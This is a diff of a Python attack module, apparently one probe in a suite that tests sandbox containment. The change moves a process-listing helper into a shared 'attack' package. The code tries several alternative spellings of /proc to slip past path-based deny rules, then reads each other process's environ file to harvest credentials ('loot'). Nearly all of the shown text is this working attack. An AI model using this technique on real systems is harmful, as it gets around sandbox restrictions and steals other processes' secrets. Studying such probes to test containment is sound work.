@@ -3,9 +3,7 @@
 Means: names of /proc that do not begin with "/proc". One that works is enough.
 """
 
-import os
-
-from attack import DONE, attempting, denied, loot
+from attack import DONE, attempting, denied, loot, neighbours
 
 SPELLINGS = (
     "//proc",
@@ -17,15 +15,6 @@ SPELLINGS = (
     "/../proc",
     "../" * 16 + "proc",  # from wherever we are: at the root, .. is the root
 )
-
-
-def neighbours(first):
-    """The worker, then every process in /proc but this one."""
-    try:
-        seen = [int(name) for name in os.listdir("/proc") if name.isdigit()]
-    except OSError:
-        seen = []
-    return [pid for pid in [first, *seen] if pid not in (0, os.getpid())]
 
 
 def credential(path):
@@ -40,7 +29,7 @@ def credential(path):
 def run(brief):
     why = "nobody else in sight"
     attempting()
-    for pid in neighbours(brief.worker):
+    for pid in neighbours(brief):
         for proc in SPELLINGS:
             try:
                 found = credential(f"{proc}/{pid}/environ")
